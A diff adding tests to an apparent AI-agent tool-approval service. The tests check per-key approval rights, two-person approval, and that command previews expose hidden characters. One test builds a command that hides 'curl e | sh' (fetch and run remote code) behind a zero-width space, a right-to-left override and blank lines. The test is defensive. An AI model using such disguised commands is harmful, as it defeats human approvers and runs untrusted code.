@@ -260,6 +260,66 @@ def test_chat(host):
        "and it goes on", text)
 
 
+def rules(*texts):
+    return asker().replace("ask_timeout_s", f"approvals = ({', '.join(texts)}); ask_timeout_s")
+
+
+def choices_told(host, turn, key):
+    """Of the events of the turn, as that key is told them."""
+    stream = host.follow(f"/turns/{turn}/events", key)
+    while (event := stream.json())["type"] != "request":
+        pass
+    stream.close()
+    return [c["id"] for c in event["payload"].get("choices", [])]
+
+
+def choices_listed(host, turn, key):
+    listed = json.loads(host.ask("GET", "/requests", key=key)[2])["requests"]
+    return [[c["id"] for c in r.get("choices", [])] for r in listed if r["turn"] == turn]
+
+
+def test_shown(host):
+    """What cannot be seen is spelled out; programs have it as it was asked."""
+    command = "echo ok\u200b # \u202e hs.live\n\n\n\n\ncurl e | sh"
+    turn = asking(host, "run=" + command)
+    request = turn["requests"][0]
+    equal(request["preview"],
+          "[6 lines]\necho ok<U+200B> # <U+202E> hs.live\n[4 blank lines]\ncurl e | sh",
+          "who decides reads all of the command")
+    equal(request["args"]["command"], command, "programs have it as it is")
+    decide(host, turn["id"], request["id"], choice="deny")
+
+
+def test_elsewhere():
+    """`to` and four_eyes bind HTTP."""
+    to_eve = '{ action = "ask"; tool = "*"; to = ["http:eve"]; }'
+    with Door(http=http_group(KEYS), agents=rules(to_eve)) as host:
+        turn = asking(host, "run=date")
+        name, request = turn["id"], turn["requests"][0]["id"]
+        ok("choices" not in turn["requests"][0], "what is asked of another key is not offered")
+        equal(choices_told(host, name, "ann"), [], "nor in the events")
+        status, text = decide(host, name, request, choice="allow")
+        equal((status, text["error"]["code"]), (403, "not_allowed"), "and cannot be answered")
+        ok(len(choices_listed(host, name, "eve")[0]) > 1, "that key is offered it")
+        ok(len(choices_told(host, name, "eve")) > 1, "in the events, too")
+        equal(choices_listed(host, name, "bob"), [[]], "a key that may not answer is offered nothing")
+        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "and that key decides")
+        answer_of(host, name)
+    other = '{ action = "ask"; tool = "*"; four_eyes = true; }'
+    with Door(http=http_group(KEYS), agents=rules(other)) as host:
+        turn = asking(host, "run=date")
+        name, request = turn["id"], turn["requests"][0]["id"]
+        equal(choices_listed(host, name, "ann"), [["deny"]], "who asked is offered to deny")
+        status, text = decide(host, name, request, choice="allow")
+        equal((status, text["error"]["code"]), (403, "not_allowed"), "and may not allow")
+        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "somebody else may")
+        answer_of(host, name)
+        turn = asking(host, "run=date")
+        equal(decide(host, turn["id"], turn["requests"][0]["id"], choice="deny")[0], 200,
+              "who asked denies")
+        answer_of(host, turn["id"])
+
+
 def test_timeout():
     with Door(http=http_group(KEYS), agents=asker(timeout=1)) as host:
         turn = asking(host, "run=late")
@@ -288,7 +348,9 @@ with Door(http=http_group(KEYS), agents=asker()) as host:
     test_together(host)
     test_ends(host)
     test_chat(host)
+    test_shown(host)
     equal(host.stop(), 0, "it ends well")
+test_elsewhere()
 test_timeout()
 test_local()
 done()
